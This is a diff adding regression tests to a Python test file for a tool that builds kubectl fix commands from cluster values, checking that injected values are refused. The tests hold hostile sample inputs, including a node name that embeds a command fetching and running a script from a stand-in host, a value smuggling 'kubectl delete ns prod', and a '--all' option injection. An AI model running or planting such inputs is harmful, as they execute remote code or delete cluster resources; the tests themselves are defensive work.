@@ -82,7 +82,9 @@ def test_trust_of_values() -> None:
     assert trusted(["a", "b"]) and trusted({"k": "v"}) and trusted(None)
     assert not trusted("a b") and not trusted(["a", "b;c"]) and not trusted({"k": "$(id)"}) and not trusted("x\n")
     assert trusted(written("kubectl get x | grep y")) and type(written("plain-word")) is str
-    assert untrusted_characters(["a b", Written("c d"), {"k": "x|y"}]) == [" ", "|"]
+    assert untrusted_characters("a b|c d") == [" ", "|"] and untrusted_characters("--all") == ["a leading -"]
+    # trial 181: a value that starts with "-" is an option, not a name
+    assert not trusted("--all") and not trusted("-n") and trusted("a-b") and trusted("")
     # marshal (the memo of checks by their inputs) writes no str subclass: plain() gives the same key as plain text
     key = marshal.loads(marshal.dumps(plain([Written("a b"), {"k": Written("c d")}])))
     assert key == ["a b", {"k": "c d"}] and type(key[0]) is str and type(key[1]["k"]) is str
@@ -113,3 +115,23 @@ def test_a_value_after_the_fixs_comment_only_has_to_stay_in_it() -> None:
     assert refused.startswith("No fix command is written for this object: what it would name (said) holds")
     # before the comment, the same words are refused
     assert command("kubectl label node {said}", _Scope(values), {}).startswith("No fix command is written")
+    # trial 181: after the comment, in a command the comment tells the reader to run next (the table and chat write
+    # it as a line of its own), a value is held to a plain word again; so is a command it would write itself
+    restart = "kubectl get cp x  # then restart it on the node: kubectl delete pod --field-selector spec.nodeName={name}"
+    assert command(restart, _Scope({"name": "a100-x$(curl -s evil.example|sh)"}), {}).startswith("No fix command")
+    assert command(restart, _Scope({"name": "a100-x"}), {}).endswith("spec.nodeName=a100-x")
+    sneaky = {**values, "said": "it says. kubectl delete ns prod"}
+    assert command(template, _Scope(sneaky), {}).startswith("No fix command is written")
+    # a fix that starts with words: the words around its commands may hold them (the table and chat write them as
+    # # lines); in its command they may not
+    prose = "First read what the scheduler said ({said}): kubectl describe pod -n {namespace} {name}"
+    assert command(prose, _Scope(values), {}).startswith("First read what the scheduler said (0/12 nodes")
+    assert command(prose, _Scope({**values, "name": "p1 --all"}), {}).startswith("No fix command is written")
+
+
+def test_a_name_that_is_an_option_gets_no_fix_command(pack) -> None:
+    """Regression (trial 181): a Node named --all made 'kubectl label node --all --overwrite ...', which labels every
+    node of the cluster: a value of the dump starts with a letter or a digit, as every Kubernetes name does."""
+    fix = _fix(pack, _node("--all"))
+    assert fix.startswith("No fix command is written for this object: what it would name (name) holds characters a")
+    assert "(a leading -)" in fix
